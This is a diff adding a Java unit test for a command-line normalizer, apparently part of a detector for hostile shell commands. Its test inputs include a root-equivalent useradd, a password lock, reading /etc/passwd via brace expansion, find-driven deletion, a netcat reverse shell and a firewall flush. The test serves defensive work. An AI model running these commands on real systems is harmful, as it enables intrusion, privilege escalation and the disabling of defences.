@@ -24,6 +24,17 @@ class CommandLineNormalizerTest {
     }
 
     @Test
+    void aGroupsOpeningBraceIsDroppedWhereACommandStarts() {
+        assertThat(CommandLineNormalizer.normalize("{ useradd -o -u 0 x; }", false)).isEqualTo("useradd -o -u 0 x; }");
+        assertThat(CommandLineNormalizer.normalize("id && {  passwd -l admin; }", false)).isEqualTo("id && passwd -l admin; }");
+        // brace expansion, a function's body, a quoted or find's braces stay
+        assertThat(CommandLineNormalizer.normalize("{cat,/etc/passwd}", false)).isEqualTo("{cat,/etc/passwd}");
+        assertThat(CommandLineNormalizer.normalize("f() { id; }", false)).isEqualTo("f() { id; }");
+        assertThat(CommandLineNormalizer.normalize("echo '{ x; }'", false)).isEqualTo("echo { x; }");
+        assertThat(CommandLineNormalizer.normalize("find . -exec rm {} +", false)).isEqualTo("find . -exec rm {} +");
+    }
+
+    @Test
     void aProgramLookedUpWhereItIsNamedReadsAsItsName() {
         assertThat(CommandLineNormalizer.normalize("$(which nc) -e /bin/sh h 1", false)).isEqualTo("nc -e /bin/sh h 1");
         assertThat(CommandLineNormalizer.normalize("`command -v IPtables` -F", false)).isEqualTo("iptables -f");
